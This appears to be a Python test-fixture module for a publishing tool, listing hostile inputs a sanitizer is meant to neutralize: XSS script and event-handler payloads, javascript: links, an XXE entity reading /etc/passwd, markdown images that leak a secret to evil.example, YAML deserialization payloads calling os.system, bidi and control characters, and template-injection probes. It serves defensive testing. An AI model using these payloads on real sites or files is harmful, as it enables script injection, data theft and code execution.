"""Texts that a source may hold to harm whoever publishes or reads the article."""

SCRIPTS = (
    "<script>alert(1)</script>",
    "</script><script>window.__owned=1</script>",
    '"><img src="https://evil.example/x" onerror="window.__owned=1">',
    "</style></title><svg onload=window.__owned=1>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<!-- /wp:paragraph --><!-- wp:html --><script>x</script><!-- /wp:html -->",
    "[caption]<img src=x onerror=alert(1)>[/caption]",
    "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)
LINKS = (
    "javascript:alert(1)",
    'javascript:alert(1)" onmouseover="x',
    "JaVa\tScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "[lien](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://evil.example>",
)
IMAGES = (
    "![x](https://evil.example/p.png?q=secret)",
    "![x][y]\n\n[y]: https://evil.example/p.png",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "<img src=https://evil.example/p.png>",
)
DIRECTIONS = (
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
    "a\u202bb\u202dc",
    "admin\u200b\u2060\ufeff\U000e0041",
)
CONTROLS = (
    "\x1b[31mrouge\x1b[0m\x00\x07",
    "\x1b]8;;https://evil.example\x07clic\x1b]8;;\x07",
    "\ud800 seul",
    "a\u2028b\u2029c\x85d\x0be\x0cf",
)
TEMPLATES = (
    "{{ site.secret }} {% include x %} {# note #}",
    "{{< shortcode >}} {{% autre %}}",
    "{%",
    "{{ 7 | times: 6 }} <%= 7*6 %> ${7*6} #{7*6}",
)
TITLES = (
    "---",
    "...",
    "--- !ruby/object:Gem::Installer",
    "!!python/object/apply:os.system ['id']",
    "draft: true",
    "draft: true\nlayout: x",
    "titre\n---\ndraft: true",
    "a: b",
    "a #b",
    "'",
    '"',
    '"a\\" b\\\\',
    "\\",
    "- a",
    "? a",
    "* a",
    "&a *a",
    "@a `b`",
    "%TAG",
    "| bloc",
    "> plié",
    "[a, b]",
    "{a: b}",
    "oui",
    "yes",
    "y",
    "null",
    "~",
    "true",
    "1e3",
    "0o14",
    "0x1F",
    "012",
    "1_000",
    "12:30",
    "12:30:45",
    ".inf",
    "2026-03-04",
    "2026-03-04T10:00:00Z",
    "<<",
    "=",
    "é" * 300,
    "L’« État » : 67\u202f000 à M.\u00a0Roy\u202f!",
    "deux  espaces ",
    "\t",
    "Emoji 👩‍👩‍👧 et 𝒳",
)
LONG = ("a" * 1_000_000, "mot " * 250_000, "<" * 100_000, "[" * 100_000, "`*_" * 30_000)
"""Lines of up to a million characters."""
INERT = (*SCRIPTS, *LINKS, *IMAGES, *DIRECTIONS, *CONTROLS, *TEMPLATES)
INVISIBLE = (
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u2060\ufeff"
    "\x1b\x00\x07\ud800\u2028\u2029"
)
"""What must be in no file that is published."""
